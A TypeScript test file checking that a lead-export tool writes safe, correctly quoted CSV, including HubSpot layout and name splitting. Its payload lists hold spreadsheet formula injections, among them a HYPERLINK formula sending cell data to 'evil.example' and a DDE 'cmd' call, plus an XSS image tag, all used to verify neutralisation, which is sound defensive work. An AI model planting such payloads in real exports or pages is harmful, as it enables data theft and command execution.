/**
 * The CSV of an export read back with a real CSV parser (papaparse) equals what was exported,
 * hostile text included, and no cell a spreadsheet would run as a formula survives (R5).
 */
import Papa from 'papaparse';
import { afterEach, describe, expect, it } from 'vitest';
import { fakeBrowser } from 'wxt/testing/fake-browser';
import type { ContactValue, PoolLead } from '../../../shared/api.ts';
import {
  ENGLISH_LABELS,
  HUBSPOT_COLUMNS,
  STANDARD_COLUMNS,
  VALUE_SEPARATOR,
  leadsToCsv,
  splitName,
} from '../../../shared/csv-export.ts';
import { canonicalSlug } from '../../../shared/slug.ts';
import { exportFile } from '../../../entrypoints/background/export-file.ts';
import { installFakeI18n } from '../../support/fake-i18n.ts';
import { LOCALES } from '../../support/locale-files.ts';

const NOW = Date.parse('2026-11-27T21:30:00Z');

function lead(overrides: Partial<PoolLead> & { lead: string }): PoolLead {
  return {
    name: 'Ada Lovelace',
    headline: 'Mathematician',
    company: 'Analytical Engines Ltd',
    location: 'London, England, United Kingdom',
    revealedAt: '2026-11-20T08:05:00.000Z',
    lastRevealedAt: '2026-11-21T08:05:00.000Z',
    values: { b2bEmail: [], phone: [], directEmail: [] },
    exports: 1,
    lastExportedAt: new Date(NOW).toISOString(),
    ...overrides,
  };
}

const email = (value: string): ContactValue => ({ value, verifiedAt: null });
const phone = (value: string, phoneKind?: 'mobile' | 'landline'): ContactValue => ({
  value,
  verifiedAt: null,
  ...(phoneKind ? { phoneKind } : {}),
});

/** The file as a spreadsheet tool reads it: BOM checked and dropped, then parsed. */
function readBack(content: string): string[][] {
  expect(content.charCodeAt(0)).toBe(0xfeff);
  const parsed = Papa.parse<string[]>(content.slice(1), { skipEmptyLines: true });
  expect(parsed.errors).toEqual([]);
  return parsed.data;
}

function records(rows: PoolLead[], layout: 'standard' | 'hubspot' = 'standard') {
  const [header, ...body] = readBack(leadsToCsv(rows, layout, { now: NOW, timeZone: 'UTC' }).content);
  return { header, body, column: (name: string, row = 0) => body[row]?.[header?.indexOf(name) ?? -1] };
}

/** Text a spreadsheet would run as a formula: the apostrophe must be added. */
const FORMULAS = [
  '=HYPERLINK("https://evil.example/?d="&A1,"Click me")',
  "=cmd|' /C calc'!A0",
  '+SUM(1,2)',
  '-2+3',
  '@SUM(A1:A2)',
  '\t=1+1',
  '\r=1+1',
  '=1+1\nsecond line',
  '  =1+1',
  '\n=1+1',
  '\uFF1D1+1',
  '\uFF0B1',
  '+33 6 12 34 56 78',
];

/** Text that is not a formula: read back exactly as it was. */
const HOSTILE_TEXT = [
  'He said "hello", then left',
  'comma, inside',
  'semicolon; inside',
  'line\nbreak',
  'windows\r\nline break',
  'lone\rcarriage return',
  '"',
  '""',
  ' leading and trailing spaces ',
  'Jérôme Dupont-Müller, Zoë Ærøskøbing',
  '👩🏽‍💻 Engineer 👨‍👩‍👧‍👦 🏳️‍🌈',
  'مريم العبدالله — مهندسة',
  '\u202Eevil\u202C text',
  '<img src=x onerror=alert(1)>',
  "'already quoted",
  'x'.repeat(5000),
];

describe('leadsToCsv: the file', () => {
  it('starts with the UTF-8 byte-order mark, ends records with CRLF and quotes every field', () => {
    const file = leadsToCsv([lead({ lead: 'ada-lovelace' })], 'standard', { now: NOW, timeZone: 'UTC' });
    expect(file.content.startsWith('\uFEFF"Name","Headline",')).toBe(true);
    expect(file.mimeType).toBe('text/csv;charset=utf-8');
    const lines = file.content.slice(1).split('\r\n');
    expect(lines).toHaveLength(3);
    expect(lines[2]).toBe('');
    expect(lines[1]).toMatch(/^"Ada Lovelace","Mathematician",/);
    expect(new TextEncoder().encode(file.content).slice(0, 3)).toEqual(new Uint8Array([0xef, 0xbb, 0xbf]));
  });

  it('has the standard header, one column per kind of value', () => {
    const { header } = records([lead({ lead: 'ada-lovelace' })]);
    expect(header).toEqual([
      'Name',
      'Headline',
      'Company',
      'Location',
      'Profile URL',
      'Professional emails',
      'Mobile phones',
      'Landline phones',
      'Other phones',
      'Personal emails',
      'First revealed',
      'Times exported',
    ]);
  });

  it('takes the header words it is given, in the order of the columns', () => {
    const labels = Object.fromEntries(
      STANDARD_COLUMNS.map((column) => [column, `«${column}»`]),
    ) as typeof ENGLISH_LABELS;
    const file = leadsToCsv([], 'standard', { now: NOW, labels });
    expect(readBack(file.content)).toEqual([STANDARD_COLUMNS.map((column) => `«${column}»`)]);
  });

  it('writes the header in the user language through the background (English here)', () => {
    const file = exportFile([lead({ lead: 'ada-lovelace' })], 'csv', NOW);
    expect(readBack(file.content)[0]).toEqual(STANDARD_COLUMNS.map((column) => ENGLISH_LABELS[column]));
  });

  describe('in French', () => {
    afterEach(() => installFakeI18n(fakeBrowser, LOCALES, () => 'en'));
    it('has French header words, and HubSpot keeps its own', () => {
      installFakeI18n(fakeBrowser, LOCALES, () => 'fr');
      const standard = readBack(exportFile([lead({ lead: 'ada-lovelace' })], 'csv', NOW).content)[0];
      expect(standard?.slice(0, 3)).toEqual(['Nom', 'Titre du profil', 'Entreprise']);
      expect(standard).toContain('Téléphones mobiles');
      const hubspot = readBack(exportFile([lead({ lead: 'ada-lovelace' })], 'hubspotCsv', NOW).content)[0];
      expect(hubspot).toEqual([...HUBSPOT_COLUMNS]);
    });
  });

  it('names the file with the count and the date of the injected clock', () => {
    const rows = [lead({ lead: 'a-1' }), lead({ lead: 'b-2' })];
    expect(leadsToCsv(rows, 'standard', { now: NOW, timeZone: 'UTC' }).name).toBe('leadlens-2-leads-2026-11-27.csv');
    expect(leadsToCsv(rows.slice(0, 1), 'hubspot', { now: NOW, timeZone: 'UTC' }).name).toBe(
      'leadlens-1-lead-2026-11-27-hubspot.csv',
    );
    // 21:30 UTC is already the next day in Tokyo.
    expect(leadsToCsv(rows, 'standard', { now: NOW, timeZone: 'Asia/Tokyo' }).name).toBe(
      'leadlens-2-leads-2026-11-28.csv',
    );
  });

  it('writes the profile address, the first reveal as a date spreadsheets read, and the export count', () => {
    const { column } = records([lead({ lead: 'jérôme-dupont', exports: 3 }), lead({ lead: '100%25-sales' })]);
    expect(column('Profile URL')).toBe('https://www.linkedin.com/in/j%C3%A9r%C3%B4me-dupont/');
    expect(canonicalSlug(column('Profile URL') ?? '')).toBe('jérôme-dupont');
    expect(canonicalSlug(column('Profile URL', 1) ?? '')).toBe('100%25-sales');
    expect(column('First revealed')).toBe('2026-11-20 08:05');
    expect(column('Times exported')).toBe('3');
  });

  it('leaves empty what the pool did not reveal or the database does not hold', () => {
    const { column } = records([lead({ lead: 'x-y', name: null, headline: null, company: null, location: null })]);
    for (const name of ['Name', 'Headline', 'Company', 'Location', 'Professional emails', 'Mobile phones']) {
      expect(column(name)).toBe('');
    }
  });
});

describe('leadsToCsv: hostile values read back equal', () => {
  it.each(HOSTILE_TEXT.map((value) => [JSON.stringify(value).slice(0, 60), value]))(
    '%s, in every text column',
    (_label, value) => {
      const row = lead({ lead: 'hostile', name: value, headline: value, company: value, location: value });
      const { column } = records([row]);
      for (const name of ['Name', 'Headline', 'Company', 'Location']) expect(column(name)).toBe(value);
      const hubspot = records([row], 'hubspot');
      expect(hubspot.column('Job Title')).toBe(value);
      expect(hubspot.column('Company Name')).toBe(value);
      expect(hubspot.column('Location')).toBe(value);
    },
  );

  it('keeps many hostile rows apart: one record per lead', () => {
    const rows = HOSTILE_TEXT.map((value, index) => lead({ lead: `lead-${index}`, name: value }));
    const { body } = records(rows);
    expect(body.map((record) => record[0])).toEqual(HOSTILE_TEXT);
    expect(body.every((record) => record.length === STANDARD_COLUMNS.length)).toBe(true);
  });
});

describe('leadsToCsv: formula injection', () => {
  it.each(FORMULAS.map((value) => [JSON.stringify(value), value]))(
    '%s gets a leading apostrophe, and is otherwise kept',
    (_label, value) => {
      const row = lead({
        lead: 'formula',
        name: value,
        headline: value,
        values: { b2bEmail: [email(value)], phone: [], directEmail: [email('ok@example.com'), email(value)] },
      });
      const { column } = records([row]);
      expect(column('Name')).toBe(`'${value}`);
      expect(column('Headline')).toBe(`'${value}`);
      expect(column('Professional emails')).toBe(`'${value}`);
      // Each value of a cell is neutralised: "text to columns" may give it a cell of its own.
      expect(column('Personal emails')).toBe(`ok@example.com${VALUE_SEPARATOR}'${value}`);
      const hubspot = records([row], 'hubspot');
      expect(hubspot.column('Job Title')).toBe(`'${value}`);
      expect(hubspot.column('Email')).toBe(`'${value}`);
    },
  );

  it('leaves no cell starting as a formula, but plain international phone numbers', () => {
    const hostile = [...FORMULAS, ...HOSTILE_TEXT];
    const rows = hostile.map((value, index) =>
      lead({
        lead: `l-${index}`,
        name: value,
        headline: value,
        company: value,
        location: value,
        values: {
          b2bEmail: [email(value)],
          phone: [phone(value, 'mobile'), phone(value)],
          directEmail: [email(value)],
        },
      }),
    );
    for (const layout of ['standard', 'hubspot'] as const) {
      const cells = readBack(leadsToCsv(rows, layout, { now: NOW }).content).flat();
      const formulas = cells.filter((text) => /^[\t\r]|^\s*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/.test(text));
      expect(formulas.every((text) => /^\+\d+(?: \d+)*$/.test(text))).toBe(true);
    }
  });

  it('keeps the header words safe too', () => {
    const labels = { ...ENGLISH_LABELS, name: '=Name' };
    expect(readBack(leadsToCsv([], 'standard', { now: NOW, labels }).content)[0]?.[0]).toBe("'=Name");
  });
});

describe('leadsToCsv: phones stay usable', () => {
  it('writes plain international numbers as they are, in a column per kind', () => {
    const row = lead({
      lead: 'phones',
      values: {
        b2bEmail: [],
        directEmail: [],
        phone: [
          phone('+33 6 12 34 56 78', 'mobile'),
          phone('+447700900123', 'mobile'),
          phone('+44 20 7946 0958', 'landline'),
          phone('+1 415 555 0100'),
        ],
      },
    });
    const { column } = records([row]);
    expect(column('Mobile phones')).toBe('+33 6 12 34 56 78; +447700900123');
    expect(column('Landline phones')).toBe('+44 20 7946 0958');
    expect(column('Other phones')).toBe('+1 415 555 0100');
    const hubspot = records([row], 'hubspot');
    expect(hubspot.column('Mobile Phone Number')).toBe('+33 6 12 34 56 78');
    expect(hubspot.column('Phone Number')).toBe('+44 20 7946 0958');
    expect(hubspot.column('Other phones')).toBe('+447700900123; +1 415 555 0100');
  });

  it.each([
    // A spreadsheet computes these: 1-415-555-0100 is shown as -1069.
    '+1-415-555-0100',
    '+1 (415) 555.0100',
    '+33 6 12 34 56 78 =cmd',
    '+33  6 12',
    '+',
    '=33612345678',
    '-33 6 12',
  ])('puts an apostrophe before %j, which is not a plain number', (value) => {
    const { column } = records([
      lead({ lead: 'p', values: { b2bEmail: [], directEmail: [], phone: [phone(value, 'mobile')] } }),
    ]);
    expect(column('Mobile phones')).toBe(`'${value}`);
  });

  it('keeps a phone number that does not start as a formula exactly as it is', () => {
    const value = '06 12 34 56 78';
    const { column } = records([lead({ lead: 'p', values: { b2bEmail: [], directEmail: [], phone: [phone(value)] } })]);
    expect(column('Other phones')).toBe(value);
  });
});

describe('leadsToCsv: several values in one cell', () => {
  it('joins them with "; ", and splitting the cell gives them back in order', () => {
    const emails = ['ada@engines.example', 'a.lovelace@engines.example', 'countess@lovelace.example'];
    const personal = ['ada@home.example', 'ada+news@home.example'];
    const { column } = records([
      lead({ lead: 'multi', values: { b2bEmail: emails.map(email), phone: [], directEmail: personal.map(email) } }),
    ]);
    expect(column('Professional emails')?.split(VALUE_SEPARATOR)).toEqual(emails);
    expect(column('Personal emails')?.split(VALUE_SEPARATOR)).toEqual(personal);
  });
});

describe('leadsToCsv: HubSpot layout', () => {
  it("has HubSpot's contact import columns and one value where HubSpot keeps one", () => {
    const row = lead({
      lead: 'ada-lovelace',
      values: {
        b2bEmail: [email('ada@engines.example'), email('a.l@engines.example')],
        phone: [phone('+44 7700 900123', 'mobile')],
        directEmail: [email('ada@home.example')],
      },
    });
    const { header, column } = records([row], 'hubspot');
    expect(header).toEqual([...HUBSPOT_COLUMNS]);
    expect(header?.slice(0, 7)).toEqual([
      'First Name',
      'Last Name',
      'Email',
      'Phone Number',
      'Mobile Phone Number',
      'Job Title',
      'Company Name',
    ]);
    expect(column('First Name')).toBe('Ada');
    expect(column('Last Name')).toBe('Lovelace');
    expect(column('Email')).toBe('ada@engines.example');
    expect(column('Other emails')).toBe('a.l@engines.example; ada@home.example');
    expect(column('Phone Number')).toBe('');
    expect(column('Mobile Phone Number')).toBe('+44 7700 900123');
    expect(column('Job Title')).toBe('Mathematician');
    expect(column('Company Name')).toBe('Analytical Engines Ltd');
    expect([column('City'), column('State/Region'), column('Country/Region')]).toEqual([
      'London',
      'England',
      'United Kingdom',
    ]);
    expect(column('LinkedIn URL')).toBe('https://www.linkedin.com/in/ada-lovelace/');
  });

  it('uses the personal email as Email when no professional one was revealed', () => {
    const { column } = records(
      [lead({ lead: 'p', values: { b2bEmail: [], phone: [], directEmail: [email('me@home.example')] } })],
      'hubspot',
    );
    expect(column('Email')).toBe('me@home.example');
    expect(column('Other emails')).toBe('');
  });

  it.each([
    ['Paris, France', ['Paris', '', 'France']],
    ['Greater Paris Metropolitan Region', ['', '', '']],
    ['France', ['', '', '']],
    ['a, b, c, d', ['', '', '']],
  ])('splits the location %j only when it reads as city, region, country', (location, expected) => {
    const { column } = records([lead({ lead: 'p', location })], 'hubspot');
    expect([column('City'), column('State/Region'), column('Country/Region')]).toEqual(expected);
    expect(column('Location')).toBe(location);
  });
});

describe('splitName', () => {
  it.each([
    ['Ada Lovelace', 'Ada', 'Lovelace'],
    ['Jean-Pierre de La Fontaine', 'Jean-Pierre', 'de La Fontaine'],
    ['  Zoë   Ærø  ', 'Zoë', 'Ærø'],
    ['Madonna', 'Madonna', ''],
    ['王小明', '王小明', ''],
    ['山田 太郎', '山田 太郎', ''],
    ['김 민준', '김 민준', ''],
    ['مريم العبدالله', 'مريم العبدالله', ''],
    ['Νίκος Παπαδόπουλος', 'Νίκος Παπαδόπουλος', ''],
    ['Ada 🚀 Lovelace', 'Ada', '🚀 Lovelace'],
    [null, '', ''],
  ])('%j → %j / %j', (name, first, last) => {
    expect(splitName(name)).toEqual({ first, last });
  });
});
